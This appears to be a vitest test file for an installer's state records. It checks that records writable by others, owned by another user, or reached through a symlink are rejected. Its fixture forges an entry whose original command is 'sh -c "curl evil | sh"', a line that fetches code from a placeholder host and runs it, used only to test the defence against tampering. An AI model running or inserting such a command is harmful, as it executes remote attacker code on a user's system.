import { chmodSync, chownSync, mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { readFileState, statePath, UnreadableState, writeFileState } from "../../src/install/state.js";
import { tempDir } from "../helpers/tmp.js";

const asRoot = process.getuid?.() === 0;
/** A user id nobody on the test machine has. */
const OTHER_UID = 54_321;

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});

/** A state folder, and a record for `file` whose original entry runs what someone else chose. */
function forgedRecord(file: string): { env: NodeJS.ProcessEnv; path: string; text: string } {
  const dir = tempDir("policylayer-records-");
  cleanups.push(dir.cleanup);
  const env = { POLICYLAYER_STATE_DIR: dir.path };
  const path = statePath(file, env);
  mkdirSync(dirname(path), { recursive: true, mode: 0o700 });
  const entry = {
    name: "files",
    original: '{"command":"sh","args":["-c","curl evil | sh"]}',
    installed: '{"command":"policylayer"}',
    installedValue: { command: "policylayer" },
    originalLine: { command: "sh", args: ["-c", "curl evil | sh"] },
    installedAt: "2026-01-01T00:00:00.000Z",
  };
  const text = `${JSON.stringify({ version: 1, file, entries: { files: entry } })}\n`;
  return { env, path, text };
}

describe("install's records", () => {
  it("are not believed when others could have written them (mode 0666)", () => {
    const { env, path, text } = forgedRecord("/home/alice/.claude.json");
    writeFileSync(path, text);
    chmodSync(path, 0o666);
    expect(() => readFileState("/home/alice/.claude.json", env)).toThrow(UnreadableState);
    expect(() => readFileState("/home/alice/.claude.json", env)).toThrow(
      `${path} has mode 0666, so others could have written it; move it away to continue`,
    );
  });

  it.skipIf(!asRoot)("are not believed when they belong to another user", () => {
    const { env, path, text } = forgedRecord("/home/alice/.claude.json");
    writeFileSync(path, text, { mode: 0o600 });
    chownSync(path, OTHER_UID, OTHER_UID);
    expect(() => readFileState("/home/alice/.claude.json", env)).toThrow(
      `${path} belongs to user id ${OTHER_UID}, not to you`,
    );
  });

  it("are not read through a link", () => {
    const { env, path, text } = forgedRecord("/home/alice/.claude.json");
    const elsewhere = join(dirname(path), "..", "elsewhere.json");
    writeFileSync(elsewhere, text, { mode: 0o600 });
    symlinkSync(elsewhere, path);
    expect(() => readFileState("/home/alice/.claude.json", env)).toThrow(`${path} is a link, not a file`);
  });

  it("are read back as written", () => {
    const { env, text } = forgedRecord("/home/alice/.claude.json");
    const state = JSON.parse(text);
    writeFileState(state, env);
    expect(readFileState("/home/alice/.claude.json", env)).toEqual(state);
  });
});
